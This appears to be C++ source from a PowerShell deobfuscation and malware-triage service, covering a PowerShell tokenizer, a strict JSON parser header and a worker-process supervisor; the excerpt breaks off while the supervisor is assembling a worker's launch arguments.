    // A group that was a command *argument* returns to argument mode so
    // `cmd ('a'+'b') -Key 5` keeps binding parameters; anywhere else the
    // completed group is an operand in expression position.
    mode_ = saved == Mode::Command ? Mode::Command : Mode::Expression;
    after_operand_ = true;
    expect_member_ = false;
    first_command_element_ = false;
  }

  void lex_one() {
    // Inter-token whitespace (spaces / tabs / carriage returns).
    while (!at_end() && (cur() == ' ' || cur() == '\t' || cur() == '\r')) advance();
    if (at_end()) return;

    const std::size_t start = pos_;
    const int line = line_;
    const int col = col_;
    const char c = cur();

    // Line continuation: backtick immediately before a newline.
    if (c == '`' && (peek() == '\n' || (peek() == '\r' && peek(2) == '\n'))) {
      advance();  // `
      while (!at_end() && cur() != '\n') advance();
      if (!at_end()) advance();  // newline
      emit(TokenType::LineContinuation, start, line, col, "");
      return;
    }

    if (c == '\n') {
      advance();
      emit(TokenType::NewLine, start, line, col, "\n");
      reset_statement();
      return;
    }

    if (c == ';') {
      advance();
      emit(TokenType::StatementSeparator, start, line, col, ";");
      reset_statement();
      return;
    }

    if (c == '#') {
      while (!at_end() && cur() != '\n') advance();
      emit(TokenType::Comment, start, line, col,
           std::string(src_.substr(start, pos_ - start)));
      return;
    }
    if (c == '<' && peek() == '#') {
      while (!at_end() && !(cur() == '#' && peek() == '>')) advance();
      if (at_end()) fail("unterminated block comment");
      advance();
      advance();
      emit(TokenType::Comment, start, line, col,
           std::string(src_.substr(start, pos_ - start)));
      return;
    }

    switch (mode_) {
      case Mode::StatementStart: lex_statement_start(start, line, col); return;
      case Mode::Command: lex_command(start, line, col); return;
      case Mode::Expression: lex_expression(start, line, col); return;
    }
  }

  // ---------------------------------------------------------------- strings

  void lex_single_string(std::size_t start, int line, int col, bool here) {
    std::string content;
    if (here) {
      pos_ += 2;  // @'
      col_ += 2;
      // Skip to end of line.
      while (!at_end() && cur() != '\n') advance();
      if (!at_end()) advance();
      while (true) {
        if (at_end()) fail("unterminated here-string");
        if (col_ == 1 && cur() == '\'' && peek() == '@') {
          if (!content.empty() && content.back() == '\n') content.pop_back();
          if (!content.empty() && content.back() == '\r') content.pop_back();
          advance();
          advance();
          break;
        }
        content.push_back(cur());
        advance();
      }
      Token& t = emit(TokenType::String, start, line, col, std::move(content));
      t.quote = QuoteKind::HereSingle;
      return;
    }
    advance();  // opening quote
    while (true) {
      if (at_end()) fail("unterminated string");
      if (cur() == '\'') {
        if (peek() == '\'') {
          content.push_back('\'');
          advance();
          advance();
          continue;
        }
        advance();
        break;
      }
      content.push_back(cur());
      advance();
    }
    Token& t = emit(TokenType::String, start, line, col, std::move(content));
    t.quote = QuoteKind::Single;
  }

  void lex_double_string(std::size_t start, int line, int col, bool here) {
    std::string cooked;
    std::string raw_inner;
    bool has_dollar = false;
    if (here) {
      pos_ += 2;
      col_ += 2;
      while (!at_end() && cur() != '\n') advance();
      if (!at_end()) advance();
      while (true) {
        if (at_end()) fail("unterminated here-string");
        if (col_ == 1 && cur() == '"' && peek() == '@') {
          if (!raw_inner.empty() && raw_inner.back() == '\n') raw_inner.pop_back();
          if (!raw_inner.empty() && raw_inner.back() == '\r') raw_inner.pop_back();
          advance();
          advance();
          break;
        }
        if (cur() == '$') has_dollar = true;
        raw_inner.push_back(cur());
        advance();
      }
      Token& t = emit(TokenType::String, start, line, col,
                      has_dollar ? raw_inner : raw_inner);
      t.quote = QuoteKind::HereDouble;
      t.expandable = has_dollar;
      return;
    }
    advance();  // opening quote
    int subexpr_depth = 0;
    while (true) {
      if (at_end()) fail("unterminated string");
      const char ch = cur();
      if (ch == '`' && pos_ + 1 < src_.size()) {
        raw_inner.push_back(ch);
        advance();
        raw_inner.push_back(cur());
        cooked.push_back(escape_char(cur()));
        advance();
        continue;
      }
      if (ch == '"') {
        if (subexpr_depth == 0) {
          if (peek() == '"') {
            raw_inner += "\"\"";
            cooked.push_back('"');
            advance();
            advance();
            continue;
          }
          advance();
          break;
        }
        // Inside an embedded $( ... ) a quote belongs to the subexpression.
        raw_inner.push_back(ch);
        cooked.push_back(ch);
        advance();
        continue;
      }
      if (ch == '$') {
        has_dollar = true;
        if (peek() == '(') subexpr_depth++;
      }
      if (ch == ')' && subexpr_depth > 0) subexpr_depth--;
      raw_inner.push_back(ch);
      cooked.push_back(ch);
      advance();
    }
    Token& t = emit(TokenType::String, start, line, col,
                    has_dollar ? raw_inner : cooked);
    t.quote = QuoteKind::Double;
    t.expandable = has_dollar;
  }

  // PS also strings barewords; reads a bareword with backtick unescaping.
  // `allow` decides which chars may appear.
  template <typename Pred>
  std::string read_word(Pred allow) {
    std::string content;
    while (!at_end()) {
      char ch = cur();
      if (ch == '`') {
        if (peek() == '\n' || peek() == '\0') break;
        advance();  // skip tick; next char literal
        content.push_back(cur());
        advance();
        continue;
      }
      if (!allow(ch)) break;
      content.push_back(ch);
      advance();
    }
    return content;
  }

  void lex_variable(std::size_t start, int line, int col) {
    advance();  // $
    std::string name;
    if (at_end()) {
      emit(TokenType::Variable, start, line, col, "$");
      return;
    }
    if (cur() == '{') {
      advance();
      while (!at_end() && cur() != '}') {
        name.push_back(cur());
        advance();
      }
      if (at_end()) fail("unterminated braced variable");
      advance();
    } else if (cur() == '_' || cur() == '$' || cur() == '?' || cur() == '^') {
      // $_ can continue as an identifier? No: $_ is exactly the automatic
      // variable, but $_abc is a normal variable named _abc.
      name.push_back(cur());
      advance();
      while (!at_end() && is_ident_char(cur())) {
        name.push_back(cur());
        advance();
      }
    } else {
      while (!at_end() && is_ident_char(cur())) {
        name.push_back(cur());
        advance();
      }
      if (!at_end() && cur() == ':' && peek() != ':' && is_scope_prefix(name) &&
          (is_ident_start(peek()) || std::isdigit(static_cast<unsigned char>(peek())))) {
        name.push_back(':');
        advance();
        while (!at_end() && is_ident_char(cur())) {
          name.push_back(cur());
          advance();
        }
      }
    }
    emit(TokenType::Variable, start, line, col, std::move(name));
    mode_ = Mode::Expression;
    after_operand_ = true;
    expect_member_ = false;
  }

  void lex_number(std::size_t start, int line, int col) {
    std::string content;
    if (cur() == '0' && (peek() == 'x' || peek() == 'X')) {
      content += "0x";
      advance();
      advance();
      while (!at_end() && std::isxdigit(static_cast<unsigned char>(cur()))) {
        content.push_back(cur());
        advance();
      }
    } else {
      while (!at_end() && std::isdigit(static_cast<unsigned char>(cur()))) {
        content.push_back(cur());
        advance();
      }
      if (!at_end() && cur() == '.' &&
          std::isdigit(static_cast<unsigned char>(peek()))) {
        content.push_back('.');
        advance();
        while (!at_end() && std::isdigit(static_cast<unsigned char>(cur()))) {
          content.push_back(cur());
          advance();
        }
      }
      if (!at_end() && (cur() == 'e' || cur() == 'E') &&
          (std::isdigit(static_cast<unsigned char>(peek())) ||
           ((peek() == '+' || peek() == '-') &&
            std::isdigit(static_cast<unsigned char>(peek(2)))))) {
        content.push_back(cur());
        advance();
        if (cur() == '+' || cur() == '-') {
          content.push_back(cur());
          advance();
        }
        while (!at_end() && std::isdigit(static_cast<unsigned char>(cur()))) {
          content.push_back(cur());
          advance();
        }
      }
      // Size suffixes: kb, mb, gb, tb, pb.
      if (!at_end() && std::isalpha(static_cast<unsigned char>(cur()))) {
        char s0 = static_cast<char>(std::tolower(static_cast<unsigned char>(cur())));
        char s1 = static_cast<char>(std::tolower(static_cast<unsigned char>(peek())));
        if ((s0 == 'k' || s0 == 'm' || s0 == 'g' || s0 == 't' || s0 == 'p') &&
            s1 == 'b') {
          content.push_back(s0);
          content.push_back('b');
          advance();
          advance();
        } else if (s0 == 'l' || s0 == 'd') {
          content.push_back(s0);
          advance();
        }
      }
    }
    emit(TokenType::Number, start, line, col, std::move(content));
    mode_ = Mode::Expression;
    after_operand_ = true;
  }

  void lex_type_literal(std::size_t start, int line, int col) {
    advance();  // [
    std::string content;
    int depth = 1;
    while (!at_end()) {
      char ch = cur();
      if (ch == '[') depth++;
      if (ch == ']') {
        depth--;
        if (depth == 0) {
          advance();
          break;
        }
      }
      if (ch != ' ' && ch != '\t') content.push_back(ch);
      advance();
    }
    if (depth != 0) fail("unterminated type literal");
    emit(TokenType::Type, start, line, col, std::move(content));
    mode_ = Mode::Expression;
    after_operand_ = true;
    expect_member_ = false;
  }

  bool lex_string_if_any(std::size_t start, int line, int col) {
    const char c = cur();
    if (c == '\'') {
      lex_single_string(start, line, col, /*here=*/false);
      return true;
    }
    if (c == '"') {
      lex_double_string(start, line, col, /*here=*/false);
      return true;
    }
    if (c == '@' && peek() == '\'') {
      lex_single_string(start, line, col, /*here=*/true);
      return true;
    }
    if (c == '@' && peek() == '"') {
      lex_double_string(start, line, col, /*here=*/true);
      return true;
    }
    return false;
  }

  // ------------------------------------------------------------- modes

  void lex_statement_start(std::size_t start, int line, int col) {
    const char c = cur();

    if (lex_string_if_any(start, line, col)) {
      mode_ = Mode::Expression;
      after_operand_ = true;
      return;
    }

    if (c == '$') {
      if (peek() == '(') {
        advance();
        advance();
        emit(TokenType::GroupStart, start, line, col, "$(");
        push_group(')');
        return;
      }
      lex_variable(start, line, col);
      return;
    }

    if (c == '@' && peek() == '(') {
      advance();
      advance();
      emit(TokenType::GroupStart, start, line, col, "@(");
      push_group(')');
      return;
    }
    if (c == '@' && peek() == '{') {
      advance();
      advance();
      emit(TokenType::GroupStart, start, line, col, "@{");
      push_group('}');
      return;
    }
    if (c == '@' && is_ident_start(peek())) {
      // Splatted variable.
      lex_variable(start, line, col);
      return;
    }

    if (c == '(') {
      advance();
      emit(TokenType::GroupStart, start, line, col, "(");
      push_group(')');
      return;
    }
    if (c == '{') {
      advance();
      emit(TokenType::GroupStart, start, line, col, "{");
      push_group('}');
      return;
    }
    if (c == ')' || c == '}') {
      advance();
      emit(TokenType::GroupEnd, start, line, col, std::string(1, c));
      pop_group();
      return;
    }

    if (c == '|') {
      advance();
      emit(TokenType::Operator, start, line, col, "|");
      reset_statement();
      return;
    }

    if (std::isdigit(static_cast<unsigned char>(c)) ||
        (c == '.' && std::isdigit(static_cast<unsigned char>(peek())))) {
      lex_number(start, line, col);
      return;
    }

    if (c == '[') {
      lex_type_literal(start, line, col);
      return;
    }

    if (c == '&') {
      advance();
      emit(TokenType::Operator, start, line, col, "&");
      mode_ = Mode::Command;
      first_command_element_ = true;
      return;
    }

    if (c == '.') {
      const char n = peek();
      if (n == ' ' || n == '\t' || n == '\'' || n == '"' || n == '$' ||
          n == '(') {
        advance();
        emit(TokenType::Operator, start, line, col, ".");
        mode_ = Mode::Command;
        first_command_element_ = true;
        return;
      }
      // `.\script.ps1` style command name: falls through to bareword.
    }

    if (c == '!') {
      advance();
      emit(TokenType::Operator, start, line, col, "!");
      mode_ = Mode::Expression;
      after_operand_ = false;
      return;
    }

    if ((c == '+' && peek() == '+') || (c == '-' && peek() == '-')) {
      advance();
      advance();
      emit(TokenType::Operator, start, line, col, std::string(2, c));
      mode_ = Mode::Expression;
      after_operand_ = false;
      return;
    }

    if (c == ',') {
      advance();
      emit(TokenType::Operator, start, line, col, ",");
      mode_ = Mode::Expression;
      after_operand_ = false;
      return;
    }

    if (c == '-') {
      const char n = peek();
      if (std::isdigit(static_cast<unsigned char>(n)) || n == '.') {
        advance();
        emit(TokenType::Operator, start, line, col, "-");
        mode_ = Mode::Expression;
        after_operand_ = false;
        return;
      }
      if (std::isalpha(static_cast<unsigned char>(n))) {
        // Prefix named operator: -join 'x', -not $a, -split 'a b'.
        std::size_t save = pos_;
        advance();
        std::string word = read_word(is_word_char);
        if (is_named_operator(word)) {
          emit(TokenType::Operator, start, line, col, "-" + to_lower(word));
          mode_ = Mode::Expression;
          after_operand_ = false;
          return;
        }
        pos_ = save;  // not an operator; fall through to bareword command
      }
    }

    // `%` and `?` alone are command aliases (ForEach-Object / Where-Object).
    if ((c == '%' || c == '?') &&
        (peek() == ' ' || peek() == '\t' || peek() == '{' || peek() == '\0' ||
         peek() == '(')) {
      advance();
      emit(TokenType::Command, start, line, col, std::string(1, c));
      mode_ = Mode::Command;
      return;
    }

    // Bareword: keyword or command name.
    std::string word = read_word([](char ch) { return !ends_command_word(ch); });
    if (word.empty()) {
      if (lenient_) {
        advance();
        emit(TokenType::Unknown, start, line, col, std::string(1, c));
        return;
      }
      fail("unexpected character at statement start");
    }

    const Token* prev = last_significant();
    const bool after_pipe =
        prev != nullptr && prev->type == TokenType::Operator && prev->content == "|";

    if (after_function_kw_) {
      after_function_kw_ = false;
      emit(TokenType::CommandArgument, start, line, col, std::move(word));
      mode_ = Mode::StatementStart;  // expect `(` or `{`
      return;
    }

    if (is_keyword(word) && !after_pipe) {
      Token& t = emit(TokenType::Keyword, start, line, col, to_lower(word));
      if (t.content == "function" || t.content == "filter") {
        after_function_kw_ = true;
      }
      reset_statement();
      return;
    }

    emit(TokenType::Command, start, line, col, std::move(word));
    mode_ = Mode::Command;
    first_command_element_ = false;
    return;
  }

  void lex_command(std::size_t start, int line, int col) {
    const char c = cur();

    if (lex_string_if_any(start, line, col)) {
      if (first_command_element_) first_command_element_ = false;
      return;
    }

    if (c == '$') {
      if (peek() == '(') {
        advance();
        advance();
        emit(TokenType::GroupStart, start, line, col, "$(");
        push_group(')');
        return;
      }
      Mode saved = mode_;
      lex_variable(start, line, col);
      // A variable in argument position does not flip us to expression mode.
      mode_ = saved;
      first_command_element_ = false;
      return;
    }

    if (c == '@' && peek() == '(') {
      advance();
      advance();
      emit(TokenType::GroupStart, start, line, col, "@(");
      push_group(')');
      return;
    }
    if (c == '@' && is_ident_start(peek())) {
      Mode saved = mode_;
      lex_variable(start, line, col);
      mode_ = saved;
      return;
    }

    if (c == '(') {
      advance();
      emit(TokenType::GroupStart, start, line, col, "(");
      push_group(')');
      return;
    }
    if (c == '{') {
      advance();
      emit(TokenType::GroupStart, start, line, col, "{");
      push_group('}');
      return;
    }
    if (c == ')' || c == '}') {
      advance();
      emit(TokenType::GroupEnd, start, line, col, std::string(1, c));
      pop_group();
      return;
    }

    if (c == '|') {
      advance();
      emit(TokenType::Operator, start, line, col, "|");
      reset_statement();
      return;
    }

    if (c == ',') {
      advance();
      emit(TokenType::Operator, start, line, col, ",");
      return;
    }

    // `=` directly in argument position only occurs inside hashtable
    // literals (`@{ key = value }`), where the key was lexed as a command.
    if (c == '=') {
      advance();
      emit(TokenType::Operator, start, line, col, "=");
      reset_statement();
      return;
    }

    if (c == '>' || (c == '2' && peek() == '>') ||
        (c == '1' && peek() == '>')) {
      // Redirections: >, >>, 2>, 2>&1, 1>...
      std::string op;
      while (!at_end() && (cur() == '>' || cur() == '&' || cur() == '1' ||
                           cur() == '2')) {
        op.push_back(cur());
        advance();
        if (op.size() > 4) break;
      }
      emit(TokenType::Operator, start, line, col, std::move(op));
      return;
    }

    if (c == '-' && std::isalpha(static_cast<unsigned char>(peek()))) {
      advance();
      std::string word = read_word([](char ch) {
        return is_ident_char(ch) || ch == '-' || ch == ':';
      });
      emit(TokenType::CommandParameter, start, line, col, "-" + word);
      return;
    }

    // Postfix member / static-member / index access on an argument operand
    // (`write-host $a.Length`, `& $cmds[0]`). Only when directly adjacent to
    // the preceding operand token, matching PowerShell's argument-mode rules.
    {
      const Token* prev = last_significant();
      const bool prev_operand =
          prev != nullptr && prev->end() == start &&
          (prev->type == TokenType::Variable || prev->type == TokenType::GroupEnd ||
           prev->type == TokenType::String || prev->type == TokenType::Member ||
           prev->type == TokenType::Type);
      if (prev_operand && c == '.' &&
          (is_ident_start(peek()) || peek() == '`')) {
        advance();
        emit(TokenType::Operator, start, line, col, ".");
        std::size_t mstart = pos_;
        int mline = line_, mcol = col_;
        std::string word = read_word([](char ch) { return is_ident_char(ch); });
        emit(TokenType::Member, mstart, mline, mcol, std::move(word));
        return;
      }
      if (prev_operand && c == ':' && peek() == ':') {
        advance();
        advance();
        emit(TokenType::Operator, start, line, col, "::");
        std::size_t mstart = pos_;
        int mline = line_, mcol = col_;
        std::string word = read_word([](char ch) { return is_ident_char(ch); });
        emit(TokenType::Member, mstart, mline, mcol, std::move(word));
        return;
      }
      if (prev_operand && c == '[') {
        advance();
        emit(TokenType::GroupStart, start, line, col, "[");
        push_group(']');
        return;
      }
      if (prev_operand && c == '(' && prev->type == TokenType::Member) {
        advance();
        emit(TokenType::GroupStart, start, line, col, "(");
        push_group(')');
        return;
      }
    }

    // Generic bareword argument (numbers included; the parser converts).
    std::string word = read_word([](char ch) { return !ends_command_word(ch); });
    if (word.empty()) {
      advance();
      emit(TokenType::Unknown, start, line, col, std::string(1, c));
      return;
    }
    if (first_command_element_) {
      first_command_element_ = false;
      emit(TokenType::Command, start, line, col, std::move(word));
      return;
    }
    emit(TokenType::CommandArgument, start, line, col, std::move(word));
  }

  void lex_expression(std::size_t start, int line, int col) {
    const char c = cur();

    if (lex_string_if_any(start, line, col)) {
      after_operand_ = true;
      expect_member_ = false;
      return;
    }

    if (c == '$') {
      if (peek() == '(') {
        advance();
        advance();
        emit(TokenType::GroupStart, start, line, col, "$(");
        push_group(')');
        return;
      }
      lex_variable(start, line, col);
      return;
    }

    if (c == '@' && peek() == '(') {
      advance();
      advance();
      emit(TokenType::GroupStart, start, line, col, "@(");
      push_group(')');
      return;
    }
    if (c == '@' && peek() == '{') {
      advance();
      advance();
      emit(TokenType::GroupStart, start, line, col, "@{");
      push_group('}');
      return;
    }

    if (std::isdigit(static_cast<unsigned char>(c)) ||
        (c == '.' && std::isdigit(static_cast<unsigned char>(peek())) &&
         !after_operand_)) {
      lex_number(start, line, col);
      return;
    }

    if (c == '(') {
      advance();
      emit(TokenType::GroupStart, start, line, col, "(");
      push_group(')');
      return;
    }
    if (c == '{') {
      advance();
      emit(TokenType::GroupStart, start, line, col, "{");
      push_group('}');
      return;
    }
    if (c == ')' || c == '}') {
      advance();
      emit(TokenType::GroupEnd, start, line, col, std::string(1, c));
      pop_group();
      return;
    }

    if (c == '[') {
      // `[int][char]39` chains casts: a '[' directly after a Type token is
      // another type literal, not an index.
      const Token* prev = last_significant();
      const bool prev_is_type = prev != nullptr && prev->type == TokenType::Type;
      if (after_operand_ && start == last_token_end_ && !prev_is_type) {
        advance();
        emit(TokenType::GroupStart, start, line, col, "[");
        push_group(']');
        return;
      }
      lex_type_literal(start, line, col);
      return;
    }
    if (c == ']') {
      advance();
      emit(TokenType::GroupEnd, start, line, col, "]");
      pop_group();
      return;
    }

    if (c == ':' && peek() == ':') {
      advance();
      advance();
      emit(TokenType::Operator, start, line, col, "::");
      expect_member_ = true;
      after_operand_ = false;
      return;
    }

    if (c == '.') {
      if (peek() == '.') {
        advance();
        advance();
        emit(TokenType::Operator, start, line, col, "..");
        after_operand_ = false;
        return;
      }
      advance();
      emit(TokenType::Operator, start, line, col, ".");
      if (after_operand_) {
        expect_member_ = true;
      } else {
        // Dot-source / call operator in expression position.
        mode_ = Mode::Command;
        first_command_element_ = true;
      }
      after_operand_ = false;
      return;
    }

    if (c == '|') {
      advance();
      emit(TokenType::Operator, start, line, col, "|");
      reset_statement();
      return;
    }

    if (c == '&') {
      advance();
      emit(TokenType::Operator, start, line, col, "&");
      mode_ = Mode::Command;
      first_command_element_ = true;
      return;
    }

    if (c == '=' || ((c == '+' || c == '-' || c == '*' || c == '/' || c == '%') &&
                     peek() == '=')) {
      std::string op(1, c);
      advance();
      if (c != '=' ) {
        op.push_back('=');
        advance();
      }
      emit(TokenType::Operator, start, line, col, std::move(op));
      reset_statement();
      return;
    }

    if ((c == '+' && peek() == '+') || (c == '-' && peek() == '-')) {
      advance();
      advance();
      emit(TokenType::Operator, start, line, col, std::string(2, c));
      // Postfix `$i++` leaves an operand behind; prefix `++$i` expects one.
      return;
    }

    if (c == '+' || c == '*' || c == '/' || c == '%') {
      advance();
      emit(TokenType::Operator, start, line, col, std::string(1, c));
      after_operand_ = false;
      return;
    }

    if (c == '-') {
      if (std::isalpha(static_cast<unsigned char>(peek()))) {
        std::size_t save_pos = pos_;
        int save_line = line_, save_col = col_;
        advance();
        std::string word = read_word(is_word_char);
        if (is_named_operator(word)) {
          emit(TokenType::Operator, start, line, col, "-" + to_lower(word));
          after_operand_ = false;
          return;
        }
        pos_ = save_pos;
        line_ = save_line;
        col_ = save_col;
      }
      advance();
      emit(TokenType::Operator, start, line, col, "-");
      after_operand_ = false;
      return;
    }

    if (c == '!') {
      advance();
      emit(TokenType::Operator, start, line, col, "!");
      after_operand_ = false;
      return;
    }

    if (c == ',') {
      advance();
      emit(TokenType::Operator, start, line, col, ",");
      after_operand_ = false;
      return;
    }

    if (c == '>') {
      advance();
      if (!at_end() && cur() == '>') advance();
      emit(TokenType::Operator, start, line, col,
           std::string(src_.substr(start, pos_ - start)));
      after_operand_ = false;
      return;
    }

    // Bareword in expression position: member name, trailing keyword
    // (`while` of do/while), or a stray word we surface as a bareword string.
    if (is_ident_start(c)) {
      if (expect_member_) {
        // Member names are identifiers only — `-` after one is an operator.
        std::string word = read_word(is_ident_char);
        expect_member_ = false;
        emit(TokenType::Member, start, line, col, std::move(word));
        after_operand_ = true;
        return;
      }
      std::string word = read_word(is_word_char);
      if (is_keyword(word)) {
        Token& t = emit(TokenType::Keyword, start, line, col, to_lower(word));
        if (t.content == "function" || t.content == "filter") {
          after_function_kw_ = true;
        }
        reset_statement();
        return;
      }
      Token& t = emit(TokenType::String, start, line, col, std::move(word));
      t.quote = QuoteKind::None;
      after_operand_ = true;
      return;
    }

    if (lenient_) {
      advance();
      emit(TokenType::Unknown, start, line, col, std::string(1, c));
      return;
    }
    fail("unexpected character in expression");
  }
};

}  // namespace

TokenStream tokenize(std::string_view source) {
  bool ok = true;
  Lexer lexer(source, /*lenient=*/false);
  return lexer.run(ok);
}

TokenStream tokenize_lenient(std::string_view source, bool& ok) {
  Lexer lexer(source, /*lenient=*/true);
  return lexer.run(ok);
}

}  // namespace ps
