#pragma once

/// \file json.h
/// A minimal dependency-free JSON parser for the `ideobf serve` wire
/// protocol (the library already had a writer — analysis/json_writer.h —
/// but nothing that could read). Strict by design: one complete document
/// per call, hard nesting-depth cap (hostile clients are the normal input
/// distribution on a malware-triage service), no extensions. Numbers are
/// surfaced as double; \uXXXX escapes (surrogate pairs included) decode to
/// UTF-8.

#include <cstddef>
#include <map>
#include <optional>
#include <string>
#include <string_view>
#include <variant>
#include <vector>

namespace ideobf::server {

/// One parsed JSON value. std::map keeps object keys ordered, so rendering
/// round-trips deterministically in tests.
class JsonValue {
 public:
  using Array = std::vector<JsonValue>;
  using Object = std::map<std::string, JsonValue, std::less<>>;
  using Storage =
      std::variant<std::nullptr_t, bool, double, std::string, Array, Object>;

  JsonValue() : v_(nullptr) {}
  explicit JsonValue(Storage v) : v_(std::move(v)) {}

  [[nodiscard]] bool is_null() const {
    return std::holds_alternative<std::nullptr_t>(v_);
  }
  [[nodiscard]] bool is_bool() const { return std::holds_alternative<bool>(v_); }
  [[nodiscard]] bool is_number() const {
    return std::holds_alternative<double>(v_);
  }
  [[nodiscard]] bool is_string() const {
    return std::holds_alternative<std::string>(v_);
  }
  [[nodiscard]] bool is_array() const {
    return std::holds_alternative<Array>(v_);
  }
  [[nodiscard]] bool is_object() const {
    return std::holds_alternative<Object>(v_);
  }

  [[nodiscard]] bool as_bool(bool fallback = false) const {
    const bool* b = std::get_if<bool>(&v_);
    return b != nullptr ? *b : fallback;
  }
  [[nodiscard]] double as_double(double fallback = 0.0) const {
    const double* d = std::get_if<double>(&v_);
    return d != nullptr ? *d : fallback;
  }
  [[nodiscard]] const std::string& as_string() const {
    static const std::string empty;
    const std::string* s = std::get_if<std::string>(&v_);
    return s != nullptr ? *s : empty;
  }
  [[nodiscard]] const Array* as_array() const {
    return std::get_if<Array>(&v_);
  }
  [[nodiscard]] const Object* as_object() const {
    return std::get_if<Object>(&v_);
  }

  /// Object member lookup; null for non-objects and missing keys.
  [[nodiscard]] const JsonValue* find(std::string_view key) const {
    const Object* obj = as_object();
    if (obj == nullptr) return nullptr;
    auto it = obj->find(key);
    return it != obj->end() ? &it->second : nullptr;
  }

  [[nodiscard]] const Storage& storage() const { return v_; }

 private:
  Storage v_;
};

/// Maximum nesting depth accepted (objects + arrays combined). A line
/// crafted as ten thousand open brackets must fail fast, not recurse the
/// stack away.
inline constexpr std::size_t kMaxJsonDepth = 64;

/// Parses exactly one JSON document from `text` (surrounding whitespace
/// allowed, trailing garbage is an error). Returns nullopt on malformed
/// input, with a short reason in `*error` when provided.
std::optional<JsonValue> parse_json(std::string_view text,
                                    std::string* error = nullptr);

}  // namespace ideobf::server
