#include "server/supervisor.h"

#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstring>
#include <fstream>
#include <map>
#include <set>
#include <stdexcept>
#include <utility>

#include "analysis/json_writer.h"
#include "server/flight_recorder.h"
#include "server/listen.h"
#include "telemetry/log.h"
#include "telemetry/snapshot.h"

namespace ideobf::server {

namespace {

using steady = std::chrono::steady_clock;

constexpr std::size_t kJournalRecordBytes = 64;

double seconds_since(steady::time_point t0) {
  return std::chrono::duration<double>(steady::now() - t0).count();
}

std::atomic<int> g_supervisor_pipe_fd{-1};

extern "C" void supervisor_signal_handler(int signum) {
  int fd = g_supervisor_pipe_fd.load(std::memory_order_relaxed);
  if (fd >= 0) {
    char b = signum == SIGHUP ? 'h' : 's';
    [[maybe_unused]] ssize_t r = ::write(fd, &b, 1);
  }
}

}  // namespace

struct Supervisor::Impl {
  FleetConfig cfg;
  int unix_fd = -1;
  int tcp_fd = -1;
  std::uint16_t bound_tcp_port = 0;
  int pipe_r = -1;
  int pipe_w = -1;
  bool stopping = false;

  struct WorkerSlot {
    pid_t pid = -1;
    steady::time_point started{};
    steady::time_point restart_at{};  ///< when pid < 0: earliest respawn
    unsigned restarts = 0;            ///< total respawns of this slot
    unsigned consecutive_crashes = 0;
    std::vector<steady::time_point> recent_crashes;  ///< circuit window
    bool circuit_open = false;
  };
  std::vector<WorkerSlot> slots;

  /// Crash counts per script hash (journal evidence) and the published
  /// quarantine set.
  std::map<std::string, unsigned> crash_counts;
  std::set<std::string> quarantined;
  std::uint64_t crashes_total = 0;

  explicit Impl(FleetConfig config) : cfg(std::move(config)) {}

  ~Impl() {
    if (unix_fd >= 0) ::close(unix_fd);
    if (tcp_fd >= 0) ::close(tcp_fd);
    if (pipe_r >= 0) ::close(pipe_r);
    if (pipe_w >= 0) ::close(pipe_w);
    int expected = pipe_w;
    g_supervisor_pipe_fd.compare_exchange_strong(expected, -1);
  }

  std::string journal_path(unsigned slot) const {
    return cfg.state_dir + "/journal." + std::to_string(slot);
  }
  std::string quarantine_path() const { return cfg.state_dir + "/quarantine"; }
  std::string cache_path() const { return cfg.state_dir + "/cache.bin"; }
  std::string status_path() const { return cfg.state_dir + "/fleet.json"; }
  std::string metrics_path(unsigned slot) const {
    return cfg.state_dir + "/metrics." + std::to_string(slot);
  }
  std::string flight_path(unsigned slot) const {
    return cfg.state_dir + "/flight." + std::to_string(slot);
  }
  std::string postmortem_path(unsigned slot) const {
    return cfg.state_dir + "/postmortem." + std::to_string(slot) + ".json";
  }
  std::string trace_path(unsigned slot) const {
    return cfg.state_dir + "/trace." + std::to_string(slot) + ".json";
  }

  // --- spawning ------------------------------------------------------------

  void spawn(unsigned slot) {
    // A stale journal (or flight recorder) from a previous life of this
    // slot must not be re-counted against anyone; the files are clean
    // before the worker runs.
    ::truncate(journal_path(slot).c_str(), 0);
    ::truncate(flight_path(slot).c_str(), 0);

    std::vector<std::string> argv_s;
    const std::string exec_path =
        cfg.exec_path.empty() ? "/proc/self/exe" : cfg.exec_path;
    argv_s.push_back(exec_path);
    argv_s.push_back("serve");
    argv_s.push_back("--socket");
    argv_s.push_back(cfg.unix_socket_path);
    argv_s.push_back("--worker-index");
    argv_s.push_back(std::to_string(slot));
    argv_s.push_back("--inherited-unix-fd");
    argv_s.push_back(std::to_string(unix_fd));
    if (tcp_fd >= 0) {
      argv_s.push_back("--inherited-tcp-fd");
      argv_s.push_back(std::to_string(tcp_fd));
    }
    argv_s.push_back("--threads");
    argv_s.push_back(std::to_string(cfg.threads_per_worker));
    argv_s.push_back("--max-queue");
    argv_s.push_back(std::to_string(cfg.max_queue));
    argv_s.push_back("--send-timeout-seconds");
    argv_s.push_back(std::to_string(cfg.send_timeout_seconds));
    if (cfg.idle_timeout_seconds > 0.0) {
      argv_s.push_back("--idle-timeout-seconds");
      argv_s.push_back(std::to_string(cfg.idle_timeout_seconds));
    }
    argv_s.push_back("--outbuf-high-water-bytes");
    argv_s.push_back(std::to_string(cfg.outbuf_high_water_bytes));
    if (cfg.default_deadline_ms != 0) {
      argv_s.push_back("--deadline-ms");
      argv_s.push_back(std::to_string(cfg.default_deadline_ms));
    }
    if (cfg.admission_rate > 0.0) {
      argv_s.push_back("--rate");
      argv_s.push_back(std::to_string(cfg.admission_rate));
      if (cfg.admission_burst > 0.0) {
        argv_s.push_back("--burst");
        argv_s.push_back(std::to_string(cfg.admission_burst));
      }
    }
    argv_s.push_back("--journal");
    argv_s.push_back(journal_path(slot));
    argv_s.push_back("--quarantine");
    argv_s.push_back(quarantine_path());
    if (cfg.cache) {
      argv_s.push_back("--cache-path");
      argv_s.push_back(cache_path());
      argv_s.push_back("--cache-slots");
      argv_s.push_back(std::to_string(cfg.cache_slots));
      argv_s.push_back("--cache-slot-bytes");
      argv_s.push_back(std::to_string(cfg.cache_slot_bytes));
    }
    if (!cfg.reload_config_path.empty()) {
      argv_s.push_back("--config");
      argv_s.push_back(cfg.reload_config_path);
    }
    if (!cfg.fault_spec.empty()) {
      argv_s.push_back("--fault");
      argv_s.push_back(cfg.fault_spec);
    }
    argv_s.push_back("--metrics-snapshot");
    argv_s.push_back(metrics_path(slot));
    argv_s.push_back("--flight-recorder");
